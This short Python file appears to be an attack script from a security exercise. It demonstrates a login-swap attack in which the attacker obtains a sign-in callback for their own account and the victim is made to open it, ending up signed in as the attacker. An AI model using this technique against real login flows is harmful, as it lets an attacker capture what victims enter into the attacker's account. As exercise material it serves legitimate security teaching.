"""Signed in as somebody else: the victim opens the attacker's callback."""

import requests


def attack(exercise):
    login = requests.get(f"{exercise.app}/login", allow_redirects=False)
    # As kanzlei, an account of our own. The callback is not opened here.
    callback = exercise.attacker.sign_in(login.headers["Location"])

    exercise.victim.opens(callback)
    exercise.victim.uses_app()
